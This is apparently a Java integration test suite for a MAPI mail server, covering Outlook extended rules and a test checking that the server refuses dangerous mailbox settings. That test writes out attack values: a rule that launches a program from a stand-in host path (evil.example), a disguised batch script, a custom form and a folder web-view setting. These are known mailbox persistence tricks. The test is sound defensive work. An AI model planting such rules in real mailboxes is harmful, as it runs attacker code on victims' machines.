package org.ropeway.it.spec;

import static org.assertj.core.api.Assertions.assertThat;
import static org.ropeway.it.spec.RuleDesk.mail;
import static org.ropeway.it.spec.RuleDesk.rule;
import static org.ropeway.it.spec.RuleDesk.subject;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Set;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.ropeway.codec.data.Bytes;
import org.ropeway.codec.data.ErrorCode;
import org.ropeway.codec.data.Fid;
import org.ropeway.codec.data.LongTermId;
import org.ropeway.codec.data.MapiGuid;
import org.ropeway.codec.data.PropertyName;
import org.ropeway.codec.data.PropertyTag;
import org.ropeway.codec.data.PropertyType;
import org.ropeway.codec.data.PropertyValue;
import org.ropeway.codec.data.Restriction;
import org.ropeway.codec.entryid.FolderEntryId;
import org.ropeway.codec.orule.ExtendedRuleActions;
import org.ropeway.codec.orule.ExtendedRuleCondition;
import org.ropeway.codec.orule.NamedPropertyInformation;
import org.ropeway.codec.orule.RuleAction;
import org.ropeway.codec.orule.RuleActions;
import org.ropeway.codec.property.PidTag;
import org.ropeway.codec.rop.logon.PrivateFolder;
import org.ropeway.codec.rop.message.RopCreateMessage;
import org.ropeway.codec.rop.message.RopSaveChangesMessage;
import org.ropeway.codec.rop.property.RopSetProperties;
import org.ropeway.codec.wire.WireWriter;
import org.ropeway.gateway.client.MapiRef;
import org.ropeway.gateway.client.RopFuture;
import org.ropeway.gateway.client.RopList;
import org.ropeway.it.stage.House;
import org.ropeway.it.stage.Outlook;
import org.ropeway.store.Danger;

/**
 * Rules that are FAI messages ([MS-OXORULE] 2.2.4), and what is not stored because it is harmful.
 */
class ExtendedRulesSpecTest {
  private static final int ENABLED = 0x01;
  private static final PropertyTag WEB_VIEW = PropertyTag.of(0x36DF, PropertyType.BINARY);

  private House house;
  private Outlook outlook;
  private Fid inbox;
  private RuleDesk desk;

  @BeforeEach
  void build() {
    house = House.build(ox -> {});
    begin();
    house.ox().deliver(House.ALICE, mail("was here before"));
    outlook.awaitMessages(outlook.folder(inbox), 1);
  }

  private void begin() {
    outlook = house.outlook(House.ALICE);
    inbox = outlook.store().folderId(PrivateFolder.INBOX);
    desk = new RuleDesk(outlook, inbox);
  }

  @AfterEach
  void end() {
    outlook.close();
    house.close();
  }

  private ErrorCode save(PropertyValue... properties) {
    RopList list = outlook.client().list();
    RopFuture<RopCreateMessage.Response> made =
        list.open(
            outlook.logon(),
            RopCreateMessage.ROP,
            out -> new RopCreateMessage.Request(out, 0x0FFF, inbox, true));
    list.call(
        made.opened(), RopSetProperties.ROP, new RopSetProperties.Request(List.of(properties)));
    RopFuture<RopSaveChangesMessage.Response> saved =
        list.call(
            made.opened(),
            made.opened(),
            RopSaveChangesMessage.ROP,
            in -> new RopSaveChangesMessage.Request(in, 0));
    list.send();
    outlook.release(Outlook.opened(made));
    return saved.returnValue();
  }

  private ErrorCode saveRule(ExtendedRuleCondition when, ExtendedRuleActions what) {
    return save(
        new PropertyValue(PidTag.MESSAGE_CLASS, "IPM.ExtendedRule.Message"),
        new PropertyValue(PidTag.RULE_MESSAGE_NAME, "extended"),
        new PropertyValue(PidTag.RULE_MESSAGE_SEQUENCE, 1),
        new PropertyValue(PidTag.RULE_MESSAGE_STATE, ENABLED),
        new PropertyValue(PidTag.RULE_MESSAGE_LEVEL, 0),
        new PropertyValue(PidTag.RULE_MESSAGE_PROVIDER, "JunkEmailRule"),
        new PropertyValue(
            PidTag.EXTENDED_RULE_MESSAGE_CONDITION,
            Bytes.wrap(WireWriter.encode(ExtendedRuleCondition.WIRE, when))),
        new PropertyValue(
            PidTag.EXTENDED_RULE_MESSAGE_ACTIONS,
            Bytes.wrap(WireWriter.encode(ExtendedRuleActions.WIRE, what))));
  }

  private RuleAction moveTo(Fid folder) {
    LongTermId id = new LongTermId(outlook.store().replGuid(), folder.counter());
    MapiGuid mailbox = outlook.store().mailboxGuid();
    return RuleAction.of(
        new RuleAction.MoveCopy(
            RuleAction.MOVE, 0, Bytes.EMPTY, FolderEntryId.of(mailbox, id).toBytes()));
  }

  @Test
  @Must(
      "[MS-OXORULE] 2.2.4: an FAI message of class IPM.ExtendedRule.Message is a rule of its folder")
  @Must("[MS-OXORULE] 2.2.4.1.9: its actions name folders by entry ids")
  @Must("[MS-OXORULE] 2.2.4.2: its named properties are those its names say, whatever their ids")
  void extendedRule() {
    Fid junk = desk.create("junk");
    PropertyName own =
        new PropertyName.Named(MapiGuid.parse("00020386-0000-0000-c000-000000000046"), "x-topic");
    int theirs = 0x9123;
    Restriction when =
        new Restriction.Or(
            List.of(
                subject("viagra"),
                new Restriction.Content(
                    1,
                    1,
                    PropertyTag.of(theirs, PropertyType.STRING),
                    new PropertyValue(PropertyTag.of(theirs, PropertyType.STRING), "casino"))));
    ExtendedRuleCondition condition =
        new ExtendedRuleCondition(
            new NamedPropertyInformation(List.of(new NamedPropertyInformation.Entry(theirs, own))),
            when);
    assertThat(saveRule(condition, ExtendedRuleActions.of(new RuleActions(List.of(moveTo(junk))))))
        .isEqualTo(ErrorCode.SUCCESS);
    house.ox().deliver(House.ALICE, mail("cheap viagra"));
    house.ox().deliver(House.ALICE, mail("words", "X-Topic: casino, luck"));
    house.ox().deliver(House.ALICE, mail("fine"));
    Awaitility.await()
        .atMost(Duration.ofSeconds(20))
        .untilAsserted(() -> {
          assertThat(desk.messages(junk)).containsOnlyKeys("cheap viagra", "words");
          assertThat(desk.messages(inbox)).containsOnlyKeys("was here before", "fine");
        });
  }

  @Test
  @Must(
      "[MS-OXCSTOR] 2.2.2.1.1.1: PidTagExtendedRuleSizeLimit is the largest size of an extended rule")
  void sizeLimit() {
    int limit =
        (Integer)
            outlook
                .properties(outlook.logon(), PidTag.EXTENDED_RULE_SIZE_LIMIT)
                .get(PidTag.EXTENDED_RULE_SIZE_LIMIT);
    assertThat(limit).isEqualTo(512 << 10);
  }

  /** Outlook's own way to start a program, and what else a thief of a password would store. */
  @Test
  void dangers() {
    List<ErrorCode> refused = dangerous();
    assertThat(refused).hasSize(6).containsOnly(ErrorCode.ACCESS_DENIED);
    RuleAction sound = defer("C:\\Windows\\Media\\ding.wav");
    assertThat(desk.modify(0, rule("sound", 1, ENABLED, subject("x"), sound)))
        .isEqualTo(ErrorCode.SUCCESS);
    outlook.close();
    house.allow(EnumSet.allOf(Danger.class));
    begin();
    assertThat(dangerous()).hasSize(6).containsOnly(ErrorCode.SUCCESS);
    outlook.close();
    house.allow(Set.of(Danger.BOUNCES));
    begin();
    assertThat(dangerous())
        .containsExactly(
            ErrorCode.ACCESS_DENIED,
            ErrorCode.ACCESS_DENIED,
            ErrorCode.SUCCESS,
            ErrorCode.ACCESS_DENIED,
            ErrorCode.ACCESS_DENIED,
            ErrorCode.ACCESS_DENIED);
  }

  private List<ErrorCode> dangerous() {
    List<ErrorCode> codes = new ArrayList<>();
    RuleAction program = defer("\\\\evil.example\\share\\run.exe");
    RuleAction script = defer("%TEMP%\\a.wav.bat");
    RuleAction bounce = RuleAction.of(new RuleAction.Bounce(RuleAction.BOUNCE_DENIED));
    for (RuleAction action : List.of(program, script, bounce)) {
      codes.add(desk.modify(0, rule("danger", 1, ENABLED, subject("x"), action)));
    }
    codes.add(
        saveRule(
            new ExtendedRuleCondition(NamedPropertyInformation.NONE, subject("x")),
            ExtendedRuleActions.of(new RuleActions(List.of(program)))));
    codes.add(
        save(
            new PropertyValue(PidTag.MESSAGE_CLASS, "IPM.Microsoft.FolderDesign.FormsDescription"),
            new PropertyValue(PidTag.DISPLAY_NAME, "IPM.Note.form")));
    MapiRef ref = outlook.folder(inbox);
    var problems =
        outlook
            .call(
                ref,
                RopSetProperties.ROP,
                new RopSetProperties.Request(
                    List.of(new PropertyValue(WEB_VIEW, Bytes.ofHex("0200000001")))))
            .response()
            .propertyProblems();
    codes.add(problems.isEmpty() ? ErrorCode.SUCCESS : problems.getFirst().errorCode());
    outlook.release(ref);
    return codes;
  }

  private static RuleAction defer(String target) {
    return RuleAction.of(
        new RuleAction.Defer(Bytes.of(("\0\0\24" + target).getBytes(StandardCharsets.UTF_16LE))));
  }
}
